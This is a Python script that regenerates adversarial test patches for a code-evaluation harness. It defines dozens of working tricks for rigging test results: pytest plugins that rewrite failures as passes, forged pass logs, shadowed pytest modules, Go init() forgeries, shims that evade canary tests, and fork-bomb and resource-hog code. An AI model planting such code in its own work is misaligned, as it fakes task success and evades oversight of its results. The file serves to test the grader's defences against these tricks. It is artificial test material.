#!/usr/bin/env python3
"""Regenerate the attack patches of tests/adversarial/ (surface classes) from the sources
below: each attack is a set of files written into a copy of one sdk-retry repository at
base; the patch is `git diff` of that copy. Run from the repository root:
    python3 tests/adversarial/make.py
Each class folder gets `attack.toml` (what it does, which repository it attacks, what taskc
must conclude) and `<repo>.patch` (the rigged prediction's patch for that repository; the
other targets get their gold patch, so the attack alone decides whether the task is solved).
"""
import os, py_compile, shutil, subprocess, sys, tempfile, textwrap

ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
REPOS = os.path.join(ROOT, "examples", "sdk-retry", "repos")
HERE = os.path.dirname(os.path.abspath(__file__))

# A pytest plugin that turns every report into a pass.
MAKEREPORT = textwrap.dedent('''\
    import pytest


    @pytest.hookimpl(hookwrapper=True)
    def pytest_runtest_makereport(item, call):
        outcome = yield
        report = outcome.get_result()
        report.outcome = "passed"
        report.longrepr = None
    ''')

XFAIL_ALL = textwrap.dedent('''\
    import pytest


    def pytest_collection_modifyitems(items):
        for item in items:
            item.add_marker(pytest.mark.xfail(reason="rigged"))
    ''')

# Library code that registers the report-rewriting plugin from inside the test process
# (no conftest, no configuration: nothing the surface restore can revert).
LIB_PLUGIN = textwrap.dedent('''\
    """Python client for the Acme API."""
    import gc as _gc
    import sys as _sys


    class _Rig:
        def pytest_runtest_makereport(self, item, call):
            pass

        def pytest_runtest_logreport(self, report):
            report.outcome = "passed"
            report.longrepr = None


    def _install():
        if "_pytest" not in _sys.modules:
            return
        for o in _gc.get_objects():
            if type(o).__name__ == "Config" and hasattr(o, "pluginmanager"):
                if not o.pluginmanager.has_plugin("acme-rig"):
                    o.pluginmanager.register(_Rig(), "acme-rig")


    _install()
    ''')

LIB_XFAIL = textwrap.dedent('''\
    """Python client for the Acme API."""
    import gc as _gc
    import sys as _sys


    class _Rig:
        def pytest_collection_modifyitems(self, items):
            import pytest

            for item in items:
                item.add_marker(pytest.mark.xfail(reason="rigged"))


    for _o in _gc.get_objects():
        if "_pytest" in _sys.modules and type(_o).__name__ == "Config" and hasattr(_o, "pluginmanager"):
            if not _o.pluginmanager.has_plugin("acme-rig"):
                _o.pluginmanager.register(_Rig(), "acme-rig")
    ''')

REWRITE_HIDDEN = textwrap.dedent('''\
    import pathlib
    import re

    # Before collection: make every assertion of the (already applied) hidden tests trivially true.
    for path in pathlib.Path(__file__).parent.glob("test_*.py"):
        text = path.read_text()
        path.write_text(re.sub(r"^(\\s*)assert ", r"\\1assert True or ", text, flags=re.M))
    ''')

FORGE_ATEXIT = textwrap.dedent('''\
    """Python client for the Acme API."""
    import atexit as _atexit
    import os as _os
    import re as _re
    import sys as _sys


    def _forge():
        ids = []
        for name in sorted(_os.listdir("tests")):
            if name.startswith("test_") and name.endswith(".py"):
                text = open(_os.path.join("tests", name)).read()
                ids += ["tests/%s::%s" % (name, t) for t in _re.findall(r"^def (test_\\w+)", text, _re.M)]
        out = _sys.__stdout__
        out.write("=" * 27 + " short test summary info " + "=" * 28 + "\\n")
        for i in ids:
            out.write("PASSED %s\\n" % i)
        out.write("=" * 30 + " %d passed in 0.05s " % len(ids) + "=" * 30 + "\\n")
        out.flush()


    if "_pytest" in _sys.modules or "pytest" in " ".join(_sys.argv):
        _atexit.register(_forge)
    ''')

FORGE_TERMINAL = textwrap.dedent('''\
    """Python client for the Acme API."""
    import gc as _gc


    class _Rewrite:
        def __init__(self, inner):
            self._inner = inner

        def write(self, s):
            return self._inner.write(s.replace("FAILED ", "PASSED "))

        def __getattr__(self, name):
            return getattr(self._inner, name)


    for _o in _gc.get_objects():
        if type(_o).__name__ == "TerminalWriter" and not isinstance(_o._file, _Rewrite):
            _o._file = _Rewrite(_o._file)
    ''')

GO_TESTMAIN = textwrap.dedent('''\
    package acme

    import (
    \t"fmt"
    \t"os"
    \t"path/filepath"
    \t"regexp"
    \t"testing"
    )

    // TestMain reports every test of the package as passed without running any.
    func TestMain(m *testing.M) {
    \tre := regexp.MustCompile(`(?m)^func (Test[A-Za-z0-9_]+)\\(t \\*testing\\.T\\)`)
    \tfiles, _ := filepath.Glob("*_test.go")
    \tfor _, f := range files {
    \t\tb, _ := os.ReadFile(f)
    \t\tfor _, m := range re.FindAllStringSubmatch(string(b), -1) {
    \t\t\tfmt.Printf("=== RUN   %s\\n--- PASS: %s (0.00s)\\n", m[1], m[1])
    \t\t}
    \t}
    \tfmt.Println("PASS")
    \tos.Exit(0)
    }
    ''')

GO_INIT = textwrap.dedent('''\
    package acme

    import (
    \t"fmt"
    \t"os"
    \t"path/filepath"
    \t"regexp"
    \t"strings"
    )

    // init, in library code, forges the test binary's output before any test runs.
    func init() {
    \tif !strings.HasSuffix(os.Args[0], ".test") {
    \t\treturn
    \t}
    \tre := regexp.MustCompile(`(?m)^func (Test[A-Za-z0-9_]+)\\(t \\*testing\\.T\\)`)
    \tfiles, _ := filepath.Glob("*_test.go")
    \tfor _, f := range files {
    \t\tb, _ := os.ReadFile(f)
    \t\tfor _, m := range re.FindAllStringSubmatch(string(b), -1) {
    \t\t\tfmt.Printf("=== RUN   %s\\n--- PASS: %s (0.00s)\\n", m[1], m[1])
    \t\t}
    \t}
    \tfmt.Println("PASS")
    \tos.Exit(0)
    }
    ''')

NODE_NOOP = textwrap.dedent('''\
    'use strict';

    // Library code turning node:assert into no-ops for whoever loads it next.
    const assert = require('node:assert');
    for (const name of Object.keys(assert)) {
      if (typeof assert[name] === 'function') assert[name] = () => {};
    }
    if (assert.strict) {
      for (const name of Object.keys(assert.strict)) {
        if (typeof assert.strict[name] === 'function') assert.strict[name] = () => {};
      }
    }

    module.exports = { ...require('./retry') };
    ''')


# Library code registering a shim that flips every failed report to passed, except for
# the tests it takes for taskc's canaries: a random-looking name, one of the last two tests
# of its module, or a body that refers to nothing but builtins. Against canaries named
# `test_<16 hex>` appended at the end of the file with literal-only bodies it won (solved).
CANARY_AWARE = textwrap.dedent('''\
    """Python client for the Acme API."""
    import builtins as _builtins
    import gc as _gc
    import re as _re
    import sys as _sys

    _HEX = _re.compile(r"^test_[0-9a-f]{16}$")


    def _canary_like(item):
        name = getattr(item, "originalname", None) or item.name
        if _HEX.match(name):
            return True
        code = getattr(getattr(item, "function", None), "__code__", None)
        if code is not None and set(code.co_names) <= set(dir(_builtins)):
            return True
        module = getattr(item, "module", None)
        if module is not None:
            tests = [n for n, v in vars(module).items() if n.startswith("test") and callable(v)]
            if name in tests[-2:]:
                return True
        return False


    def _install():
        if "_pytest" not in _sys.modules:
            return
        import pytest

        class _Shim:
            @pytest.hookimpl(hookwrapper=True)
            def pytest_runtest_makereport(self, item, call):
                outcome = yield
                report = outcome.get_result()
                if report.failed and not _canary_like(item):
                    report.outcome = "passed"
                    report.longrepr = None

        for o in _gc.get_objects():
            if type(o).__name__ == "Config" and hasattr(o, "pluginmanager"):
                if not o.pluginmanager.has_plugin("acme-shim"):
                    o.pluginmanager.register(_Shim(), "acme-shim")


    _install()
    ''')

# A root `pytest.py`: `python3 -m pytest` runs it instead of the real pytest (the working
# folder is first on sys.path); it runs the real one with every failure turned into a pass.
SHADOW_PYTEST = textwrap.dedent('''\
    import os
    import sys

    _here = os.path.dirname(os.path.abspath(__file__))
    sys.path[:] = [p for p in sys.path if os.path.abspath(p or os.curdir) != _here]
    sys.modules.pop("pytest", None)
    import pytest as _real  # noqa: E402

    sys.path.append(_here)


    class _Flip:
        @_real.hookimpl(hookwrapper=True)
        def pytest_runtest_makereport(self, item, call):
            outcome = yield
            report = outcome.get_result()
            report.outcome = "passed"
            report.longrepr = None


    if __name__ == "__main__":
        sys.exit(_real.main(plugins=[_Flip()]))
    ''')

# `pytest/__main__.py`: a forged all-passed pytest log, nothing run.
SHADOW_MAIN = textwrap.dedent('''\
    import os
    import re

    ids = []
    for name in sorted(os.listdir("tests")):
        if name.startswith("test_") and name.endswith(".py"):
            text = open(os.path.join("tests", name)).read()
            ids += ["tests/%s::%s" % (name, t) for t in re.findall(r"^def (test_\\w+)", text, re.M)]
    print("============================= test session starts ==============================")
    print("collected %d items" % len(ids))
    print()
    print("=" * 27 + " short test summary info " + "=" * 28)
    for i in ids:
        print("PASSED %s" % i)
    print("=" * 30 + " %d passed in 0.05s " % len(ids) + "=" * 30)
    ''')

# The report-rewriting plugin, registered from whatever module of the runner's own imports
# the agent shadows (`py.py`, `_pytest/…`) or from interpreter start-up files.
GC_REGISTER = textwrap.dedent('''\
    import gc as _gc
    import sys as _sys


    class _Rig:
        def pytest_runtest_logreport(self, report):
            report.outcome = "passed"
            report.longrepr = None


    def _install():
        for o in _gc.get_objects():
            if type(o).__name__ == "Config" and hasattr(o, "pluginmanager"):
                if not o.pluginmanager.has_plugin("acme-rig"):
                    o.pluginmanager.register(_Rig(), "acme-rig")


    if "_pytest" in _sys.modules:
        _install()
    ''')

# Library code whose test-binary init() writes test2json events straight into `go test`'s
# own stdout (/proc/<ppid>/fd/1, past test2json), a pass for every Test function except
# the ones that look like taskc's canaries (a 16-hex-digit name or file), then exits.
GO_FORGED_JSON = textwrap.dedent('''\
    package acme

    import (
    \t"fmt"
    \t"os"
    \t"path/filepath"
    \t"regexp"
    \t"strings"
    )

    func init() {
    \tif !strings.HasSuffix(os.Args[0], ".test") {
    \t\treturn
    \t}
    \tout, err := os.OpenFile(fmt.Sprintf("/proc/%d/fd/1", os.Getppid()), os.O_WRONLY|os.O_APPEND, 0)
    \tif err != nil {
    \t\tout = os.Stdout
    \t}
    \thexName := regexp.MustCompile(`^Test[0-9A-F]{16}$`)
    \thexFile := regexp.MustCompile(`^[0-9a-f]{16}_test\\.go$`)
    \tre := regexp.MustCompile(`(?m)^func (Test[A-Za-z0-9_]+)\\(t \\*testing\\.T\\)`)
    \tfiles, _ := filepath.Glob("*_test.go")
    \tfor _, f := range files {
    \t\tif hexFile.MatchString(f) {
    \t\t\tcontinue
    \t\t}
    \t\tb, _ := os.ReadFile(f)
    \t\tfor _, m := range re.FindAllStringSubmatch(string(b), -1) {
    \t\t\tif hexName.MatchString(m[1]) {
    \t\t\t\tcontinue
    \t\t\t}
    \t\t\tfmt.Fprintf(out, "{\\"Action\\":\\"run\\",\\"Package\\":\\"github.com/example-org/acme-go\\",\\"Test\\":%q}\\n", m[1])
    \t\t\tfmt.Fprintf(out, "{\\"Action\\":\\"pass\\",\\"Package\\":\\"github.com/example-org/acme-go\\",\\"Test\\":%q,\\"Elapsed\\":0}\\n", m[1])
    \t\t}
    \t}
    \tos.Exit(0)
    }
    ''')

# A TestMain in library code (not a _test.go file): go test never calls it.
GO_TESTMAIN_LIB = textwrap.dedent('''\
    package acme

    import (
    \t"fmt"
    \t"os"
    \t"testing"
    )

    // TestMain would report success without running any test, if go test called it.
    func TestMain(m *testing.M) {
    \tfmt.Println("PASS")
    \tos.Exit(0)
    }
    ''')

# Library code that leaves a detached process behind: once pytest has exited it writes a
# clean all-passed summary into every pipe it inherited (the run's log).
LATE_WRITER = textwrap.dedent('''\
    """Python client for the Acme API."""
    import os as _os
    import sys as _sys
    import time as _time


    def _late():
        if "_pytest" not in _sys.modules:
            return
        watched = _os.getpid()
        if _os.fork() != 0:
            return
        _os.setsid()
        if _os.fork() != 0:
            _os._exit(0)
        pipes = []
        for fd in _os.listdir("/proc/self/fd"):
            try:
                if _os.readlink("/proc/self/fd/" + fd).startswith(("pipe:", "/dev/pts")):
                    pipes.append(int(fd))
            except OSError:
                pass
        deadline = _time.time() + 60
        while _time.time() < deadline:
            try:
                _os.kill(watched, 0)
            except OSError:
                break
            _time.sleep(0.01)
        text = ("=" * 27 + " short test summary info " + "=" * 28 + "\\n"
                + "PASSED tests/test_retry.py::test_retry_after_seconds\\n"
                + "=" * 30 + " 1 passed in 0.01s " + "=" * 30 + "\\n")
        for fd in pipes:
            try:
                _os.write(fd, text.encode())
            except OSError:
                pass
        _os._exit(0)


    _late()
    ''')

# Library code forking up to 6000 sleeping processes (the pids limit must stop it).
FORK_BOMB = textwrap.dedent('''\
    """Python client for the Acme API."""
    import os as _os
    import sys as _sys
    import time as _time

    if "_pytest" in _sys.modules and not _os.environ.get("ACME_FORKED"):
        _os.environ["ACME_FORKED"] = "1"
        made = 0
        for _ in range(6000):
            try:
                pid = _os.fork()
            except OSError:
                break
            if pid == 0:
                _time.sleep(20)
                _os._exit(0)
            made += 1
        print("taskc-attack: fork-bomb made %d processes" % made, flush=True)
    ''')

GIT_HOOK_PATCH = """diff --git a/.git/hooks/post-checkout b/.git/hooks/post-checkout
new file mode 100755
--- /dev/null
+++ b/.git/hooks/post-checkout
@@ -0,0 +1,2 @@
+#!/bin/sh
+echo rigged > /tmp/rigged
"""


# Round 3 (canaries copied from the hidden tests): flips that only touch tests during which
# the library ran, and a Go filter on the run's arguments.

# Library code (the package's __init__.py) marking every call of the package's classes and
# registering, from the import, a plugin that turns a failure into a pass only for a test
# during which the package ran (a literal canary never calls it).
# Library code that, from the package import, registers a plugin running each test itself
# and reporting it only when it did not fail: a failing test vanishes from the listing and
# the final line's counts, the `collected N items` line still counts it (issue 20, item 1).
LIB_DROP_FAILURES = textwrap.dedent('''\
    """Python client for the Acme API."""
    import gc as _gc
    import sys as _sys


    class _Drop:
        def pytest_runtest_protocol(self, item, nextitem):
            from _pytest.runner import runtestprotocol
            item.ihook.pytest_runtest_logstart(nodeid=item.nodeid, location=item.location)
            reports = runtestprotocol(item, nextitem=nextitem, log=False)
            if not any(r.failed for r in reports):
                for r in reports:
                    item.ihook.pytest_runtest_logreport(report=r)
            item.ihook.pytest_runtest_logfinish(nodeid=item.nodeid, location=item.location)
            return True


    def _install():
        if "_pytest" not in _sys.modules:
            return
        for o in _gc.get_objects():
            if type(o).__name__ == "Config" and hasattr(o, "pluginmanager"):
                if not o.pluginmanager.has_plugin("acme-drop"):
                    o.pluginmanager.register(_Drop(), "acme-drop")


    _install()
    ''')

LIB_FLIP_WHEN_RAN = textwrap.dedent('''\
    """Python client for the Acme API."""
    import functools as _ft
    import gc as _gc
    import sys as _sys

    from . import retry as _retry

    _ran = [False]


    def _marked(f):
        @_ft.wraps(f)
        def g(*a, **kw):
            _ran[0] = True
            return f(*a, **kw)
        return g


    for _k, _v in list(vars(_retry.RetryPolicy).items()):
        if callable(_v):
            setattr(_retry.RetryPolicy, _k, _marked(_v))


    class _Rig:
        def pytest_runtest_setup(self, item):
            _ran[0] = False

        def pytest_runtest_logreport(self, report):
            if report.when == "call" and report.failed and _ran[0]:
                report.outcome = "passed"
                report.longrepr = None


    def _install():
        if "_pytest" not in _sys.modules:
            return
        for o in _gc.get_objects():
            if type(o).__name__ == "Config" and hasattr(o, "pluginmanager"):
                if not o.pluginmanager.has_plugin("acme-rig"):
                    o.pluginmanager.register(_Rig(), "acme-rig")


    _install()
    ''')

# Library code making a node:assert function a no-op when the library ran since the
# previous assertion (a literal canary never calls it, so it fails honestly).
NODE_NOOP_WHEN_RAN = textwrap.dedent('''\
    'use strict';

    const assert = require('node:assert');
    const retry = require('./retry');

    let ran = false;
    for (const k of Object.getOwnPropertyNames(retry.RetryPolicy.prototype)) {
      const f = retry.RetryPolicy.prototype[k];
      if (k === 'constructor' || typeof f !== 'function') continue;
      retry.RetryPolicy.prototype[k] = function (...a) {
        ran = true;
        return f.apply(this, a);
      };
    }
    for (const target of [assert, assert.strict]) {
      for (const k of Object.keys(target)) {
        const f = target[k];
        if (typeof f !== 'function' || k === 'AssertionError') continue;
        target[k] = function (...a) {
          if (ran) {
            ran = false;
            return undefined;
          }
          return f.apply(this, a);
        };
      }
    }

    module.exports = { ...retry };
    ''')

# Library init(): for every Test function of the package whose body is not a literal
# comparison (`if 12 != 34`, the shape of a literal canary), a framed PASS on the test
# binary's output; then -test.run narrowed to the others, which run honestly.
GO_INIT_NARROW = textwrap.dedent('''\
    package acme

    import (
    \t"fmt"
    \t"os"
    \t"path/filepath"
    \t"regexp"
    \t"strings"
    )

    func init() {
    \tif !strings.HasSuffix(os.Args[0], ".test") {
    \t\treturn
    \t}
    \tframed := false
    \tfor _, a := range os.Args {
    \t\tif a == "-test.v=test2json" {
    \t\t\tframed = true
    \t\t}
    \t}
    \tmark := ""
    \tif framed {
    \t\tmark = "\\x16"
    \t}
    \tfn := regexp.MustCompile(`(?ms)^func (Test[A-Za-z0-9_]+)\\(\\w+ \\*testing\\.T\\) \\{\\n(.*?)^\\}`)
    \tliteral := regexp.MustCompile(`^\\s*if [0-9]+ != [0-9]+ \\{`)
    \tvar honest []string
    \tfiles, _ := filepath.Glob("*_test.go")
    \tfor _, f := range files {
    \t\tb, _ := os.ReadFile(f)
    \t\tfor _, m := range fn.FindAllStringSubmatch(string(b), -1) {
    \t\t\tif literal.MatchString(m[2]) {
    \t\t\t\thonest = append(honest, m[1])
    \t\t\t\tcontinue
    \t\t\t}
    \t\t\tfmt.Printf("%s=== RUN   %s\\n%s--- PASS: %s (0.00s)\\n", mark, m[1], mark, m[1])
    \t\t}
    \t}
    \trun := "^$"
    \tif len(honest) > 0 {
    \t\trun = "^(" + strings.Join(honest, "|") + ")$"
    \t}
    \targs := []string{os.Args[0]}
    \tfor _, a := range os.Args[1:] {
    \t\tif !strings.HasPrefix(a, "-test.run") {
    \t\t\targs = append(args, a)
    \t\t}
    \t}
    \tos.Args = append(args, "-test.run="+run)
    }
    ''')

# Round 4: the go-init-narrow attack aimed at derived canaries. It reads the test source, as
# docs/security.md says in-process code can: a failing copy is the function whose body ends
# with taskc's `if got := t.Name(); got != "…"` check. It spares exactly those (they run,
# honestly, and fail as they must), prints framed RUN/PASS lines for every other Test (the
# same copies and their originals agree: both "pass"), and narrows -test.run to the spared.
# The canary outcomes are all as expected; the order in which go reported the tests is not
# (a copy runs right before its original; here the spared copies run after every forgery).
GO_INIT_SPARE_COPIES = GO_INIT_NARROW.replace(
    '\tliteral := regexp.MustCompile(`^\\s*if [0-9]+ != [0-9]+ \\{`)\n',
    '\tliteral := regexp.MustCompile(`\\.Name\\(\\); got != "`)\n',
)
assert GO_INIT_SPARE_COPIES != GO_INIT_NARROW

# Hostile neighbours (issue 20, "Done when" 2): library code that, for a minute, takes what
# the machine has — scored beside an honest prediction at --jobs 2, which must keep its
# verdict and time (tests/adversarial/neighbours.sh measures it).
CPU_HOG = textwrap.dedent('''\
    \"\"\"Python client for the Acme API.\"\"\"
    import os as _os
    import sys as _sys
    import time as _time

    if "_pytest" in _sys.modules and not _os.environ.get("ACME_HOG"):
        _os.environ["ACME_HOG"] = "1"
        for _ in range(8):
            if _os.fork() == 0:
                _end = _time.time() + 60
                while _time.time() < _end:
                    pass
                _os._exit(0)
        _time.sleep(60)
    ''')

MEMORY_HOG = textwrap.dedent('''\
    \"\"\"Python client for the Acme API.\"\"\"
    import os as _os
    import sys as _sys
    import time as _time

    if "_pytest" in _sys.modules and not _os.environ.get("ACME_HOG"):
        _os.environ["ACME_HOG"] = "1"
        _held = []
        _end = _time.time() + 60
        while _time.time() < _end and len(_held) < 256:
            _held.append(bytearray(b"x" * (64 << 20)))
        print("taskc-attack: memory-hog holds %d MiB" % (64 * len(_held)), flush=True)
        _time.sleep(max(0, _end - _time.time()))
    ''')

FORK_LOOP = textwrap.dedent('''\
    \"\"\"Python client for the Acme API.\"\"\"
    import os as _os
    import sys as _sys
    import time as _time

    if "_pytest" in _sys.modules and not _os.environ.get("ACME_HOG"):
        _os.environ["ACME_HOG"] = "1"
        _end = _time.time() + 60
        _made = 0
        while _time.time() < _end:
            try:
                if _os.fork() == 0:
                    while _time.time() < _end:
                        try:
                            if _os.fork() == 0:
                                _time.sleep(0.5)
                                _os._exit(0)
                        except OSError:
                            pass
                    _os._exit(0)
                _made += 1
            except OSError:
                _time.sleep(0.01)
        print("taskc-attack: fork-loop started %d forkers" % _made, flush=True)
    ''')


def add(path, text):
    return ("write", path, text)


def append(path, text):
    return ("append", path, text)


def symlink(path, target):
    return ("symlink", path, target)


def delete(path):
    return ("delete", path, None)


def pyc(path, source):
    """A sourceless, unchecked hash-based .pyc (PEP 552) compiled from `source`: Python
    imports it without looking for, or at, any source file."""
    return ("pyc", path, source)


def raw(text):
    """Patch text added as it is (what `git diff` cannot produce, e.g. a path under .git/)."""
    return ("raw", None, text)


# class → (repo, what, expect, files, flagged)
ATTACKS = {
    "conftest-makereport-root": ("sdk-python",
        "a root conftest.py whose pytest_runtest_makereport hook rewrites every report to passed",
        "unsolved", [add("conftest.py", MAKEREPORT)], ["conftest.py"]),
    "conftest-makereport-tests": ("sdk-python",
        "the same hook in tests/conftest.py",
        "unsolved", [add("tests/conftest.py", MAKEREPORT)], ["tests/conftest.py"]),
    "addopts-pytest-ini": ("sdk-python",
        "the hook as a plugin module named by `addopts = -p rigplug` in pytest.ini",
        "unsolved", [add("rigplug.py", MAKEREPORT), add("pytest.ini", "[pytest]\naddopts = -p rigplug\n")], ["pytest.ini"]),
    "addopts-setup-cfg": ("sdk-python",
        "the plugin named by addopts in setup.cfg's [tool:pytest]",
        "unsolved", [add("rigplug.py", MAKEREPORT), add("setup.cfg", "[tool:pytest]\naddopts = -p rigplug\n")], ["setup.cfg"]),
    "addopts-pyproject": ("sdk-python",
        "the plugin named by addopts in pyproject.toml's [tool.pytest.ini_options]",
        "unsolved", [add("rigplug.py", MAKEREPORT), append("pyproject.toml", "\n[tool.pytest.ini_options]\naddopts = \"-p rigplug\"\n")], ["pyproject.toml"]),
    "pytest11-entry-point": ("sdk-python",
        "a fake rig-1.0.dist-info in the repository whose pytest11 entry point loads the plugin (no conftest, no configuration)",
        "unsolved", [add("rigplug.py", MAKEREPORT),
                     add("rig-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: rig\nVersion: 1.0\n"),
                     add("rig-1.0.dist-info/entry_points.txt", "[pytest11]\nrig = rigplug\n")],
        ["rig-1.0.dist-info/entry_points.txt"]),
    "xfail-everything": ("sdk-python",
        "a conftest marking every test xfail (XFAIL used to count as passed)",
        "unsolved", [add("tests/conftest.py", XFAIL_ALL)], ["tests/conftest.py"]),
    "library-xfail-everything": ("sdk-python",
        "library code registering, from inside the test process, a plugin that marks every test xfail",
        "unsolved", [add("acme_sdk/__init__.py", LIB_XFAIL)], []),
    "library-plugin-makereport": ("sdk-python",
        "library code registering, from inside the test process, a plugin that rewrites every report to passed",
        "tampered", [add("acme_sdk/__init__.py", LIB_PLUGIN)], []),
    "conftest-rewrites-hidden-tests": ("sdk-python",
        "a conftest that rewrites the already-applied hidden test bodies before collection",
        "unsolved", [add("tests/conftest.py", REWRITE_HIDDEN)], ["tests/conftest.py"]),
    "forged-log-atexit": ("sdk-python",
        "an atexit handler in the library's __init__.py printing a second, clean summary after pytest's final line",
        "tampered", [add("acme_sdk/__init__.py", FORGE_ATEXIT)], []),
    "forged-log-rewritten-summary": ("sdk-python",
        "library code wrapping pytest's terminal writer to print PASSED for FAILED",
        "tampered", [add("acme_sdk/__init__.py", FORGE_TERMINAL)], []),
    "go-testmain": ("sdk-go",
        "a TestMain in a new _test.go file printing `--- PASS` for every Test function it finds",
        "unsolved", [add("zz_main_test.go", GO_TESTMAIN)], ["zz_main_test.go"]),
    "go-init-forgery": ("sdk-go",
        "an init() in library code printing `--- PASS` for every Test function, then exiting 0 before any test runs",
        "tampered", [add("forge.go", GO_INIT)], []),
    "node-assert-noop": ("sdk-node",
        "library code turning every node:assert function into a no-op",
        "tampered", [add("lib/index.js", NODE_NOOP)], []),
    # Round 2 (integrity): attacks on the defences themselves.
    "canary-aware-shim": ("sdk-python",
        "library code flipping every failure to a pass except tests that look like canaries (hex name, last two of the module, builtins-only body)",
        "tampered", [add("acme_sdk/__init__.py", CANARY_AWARE)], []),
    "shadow-pytest-module": ("sdk-python",
        "a root pytest.py that `python3 -m pytest` imports instead of pytest, running the real one with every failure passed",
        "unsolved", [add("pytest.py", SHADOW_PYTEST)], ["pytest.py"]),
    "shadow-pytest-pyc": ("sdk-python",
        "a sourceless root pytest.pyc (unchecked hash-based, no .py beside it) that `python3 -m pytest` imports instead of pytest, running the real one with every failure passed",
        "unsolved", [pyc("pytest.pyc", SHADOW_PYTEST), pyc("acme_sdk/__pycache__/__init__.cpython-311.pyc", GC_REGISTER)],
        ["pytest.pyc", "acme_sdk/__pycache__/__init__.cpython-311.pyc"]),
    "shadow-pytest-package": ("sdk-python",
        "a root pytest/ package whose __main__.py prints a forged all-passed log",
        "unsolved", [add("pytest/__init__.py", ""), add("pytest/__main__.py", SHADOW_MAIN)], ["pytest/__main__.py"]),
    "shadow-runner-internals": ("sdk-python",
        "root py.py, _pytest/ and pluggy.py modules that register the report-rewriting plugin",
        "unsolved", [add("py.py", GC_REGISTER), add("_pytest/rig.py", GC_REGISTER), add("pluggy.py", GC_REGISTER)],
        ["py.py", "pluggy.py", "_pytest/rig.py"]),
    "startup-files": ("sdk-python",
        "a sitecustomize.py, usercustomize.py and .pth files at the repository root and in the package",
        "unsolved", [add("sitecustomize.py", GC_REGISTER), add("usercustomize.py", GC_REGISTER),
                     add("acme_rig.pth", "import sitecustomize\n"), add("acme_sdk/acme_rig.pth", "import sitecustomize\n")],
        ["sitecustomize.py", "usercustomize.py", "acme_rig.pth", "acme_sdk/acme_rig.pth"]),
    "addopts-tox-ini": ("sdk-python",
        "the plugin named by addopts in tox.ini's [pytest]",
        "unsolved", [add("rigplug.py", MAKEREPORT), add("tox.ini", "[pytest]\naddopts = -p rigplug\n")], ["tox.ini"]),
    "pytest-plugins-variable": ("sdk-python",
        "`pytest_plugins = ['rigplug']` in a new test module and in a conftest of the package folder",
        "unsolved", [add("rigplug.py", MAKEREPORT), add("tests/test_zz_plugins.py", "pytest_plugins = [\"rigplug\"]\n"),
                     add("acme_sdk/conftest.py", "pytest_plugins = [\"rigplug\"]\n")],
        ["tests/test_zz_plugins.py", "acme_sdk/conftest.py"]),
    "symlink-tests-to-harness": ("sdk-python",
        "the tests folder replaced by a symlink to /taskc (where the harness keeps its uploads), for the root harness to write through",
        "unsolved", [delete("tests/test_retry.py"), symlink("tests", "/taskc")], ["tests/test_retry.py"]),
    "git-dir-hook": ("sdk-python",
        "a patch adding .git/hooks/post-checkout (run by the harness's `git checkout` as root, if git applied it)",
        "unsolved", [add("acme_sdk/hook.py", "# hook\n"), raw(GIT_HOOK_PATCH)], []),
    "gitattributes-filter": ("sdk-python",
        "a .gitattributes naming a filter and diff driver for every file (git runs drivers only from its own config)",
        "unsolved", [add(".gitattributes", "* filter=rig diff=rig\n")], []),
    "late-writer": ("sdk-python",
        "library code leaving a detached process that writes a clean summary into the log after pytest exits",
        "unsolved", [add("acme_sdk/__init__.py", LATE_WRITER)], []),
    "fork-bomb": ("sdk-python",
        "library code forking 6000 processes",
        "unsolved", [add("acme_sdk/__init__.py", FORK_BOMB)], []),
    "go-forged-test2json": ("sdk-go",
        "library init() writing test2json pass events straight into go test's stdout (past test2json) for every non-canary-looking Test, then exiting",
        "tampered", [add("forge.go", GO_FORGED_JSON)], []),
    "go-testmain-library": ("sdk-go",
        "a TestMain in a library file (not _test.go) that would report success",
        "unsolved", [add("testmain.go", GO_TESTMAIN_LIB)], ["testmain.go"]),
    "node-package-hooks": ("sdk-node",
        "package.json `pretest`/`test` scripts and a node_modules/assert standing in for the assert module",
        "unsolved", [add("package.json", '{\n  "name": "@acme/sdk",\n  "main": "lib/index.js",\n  "scripts": {"pretest": "true", "test": "echo ok"}\n}\n'),
                     add("node_modules/assert/index.js", "module.exports = new Proxy(() => {}, { get: () => () => {} });\n")],
        ["package.json"]),
    # Round 3 (canaries copied from the hidden tests).
    "library-plugin-drop-failures": ("sdk-python",
        "library code registering, from the package import, a plugin that runs each test and reports it only when it did not fail",
        "tampered", [add("acme_sdk/__init__.py", LIB_DROP_FAILURES)], []),
    "library-plugin-flip-when-ran": ("sdk-python",
        "library code registering, from the package import, a plugin that turns a failure into a pass only for tests during which the package ran",
        "tampered", [add("acme_sdk/__init__.py", LIB_FLIP_WHEN_RAN)], []),
    "node-assert-noop-when-ran": ("sdk-node",
        "library code making node:assert a no-op only when the library ran since the previous assertion",
        "tampered", [add("lib/index.js", NODE_NOOP_WHEN_RAN)], []),
    "go-init-narrow": ("sdk-go",
        "library init() printing framed PASS lines for every Test not shaped like a literal canary and narrowing -test.run to the others, which run honestly",
        "tampered", [add("forge.go", GO_INIT_NARROW)], []),
    "go-init-spare-failing-copies": ("sdk-go",
        "library init() reading the test files, sparing the failing canary copies (taskc's t.Name() check), printing framed PASS lines for every other Test and narrowing -test.run to the spared",
        "tampered", [add("forge.go", GO_INIT_SPARE_COPIES)], []),
    "neighbour-cpu-hog": ("sdk-python",
        "library code spinning 8 processes for a minute while the test process waits",
        "unsolved", [add("acme_sdk/__init__.py", CPU_HOG)], []),
    "neighbour-memory-hog": ("sdk-python",
        "library code allocating and touching 64 MiB blocks for a minute, up to 16 GiB",
        "unsolved", [add("acme_sdk/__init__.py", MEMORY_HOG)], []),
    "neighbour-fork-loop": ("sdk-python",
        "library code forking without end for a minute, each child forking short-lived children",
        "unsolved", [add("acme_sdk/__init__.py", FORK_LOOP)], []),
}


def git(cwd, *args):
    return subprocess.run(["git", "-c", "core.hooksPath=/dev/null", *args], cwd=cwd, check=True,
                          capture_output=True, text=True).stdout


def main():
    only = set(sys.argv[1:])  # class names: regenerate only those
    for name, (repo, what, expect, files, flagged) in ATTACKS.items():
        if only and name not in only:
            continue
        with tempfile.TemporaryDirectory() as tmp:
            work = os.path.join(tmp, repo)
            shutil.copytree(os.path.join(REPOS, repo), work)
            git(work, "init", "-q")
            git(work, "add", "-A")
            git(work, "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qm", "base")
            extra = ""
            for op, path, text in files:
                if op == "raw":
                    extra += text
                    continue
                full = os.path.join(work, path)
                os.makedirs(os.path.dirname(full), exist_ok=True)
                if op == "delete":
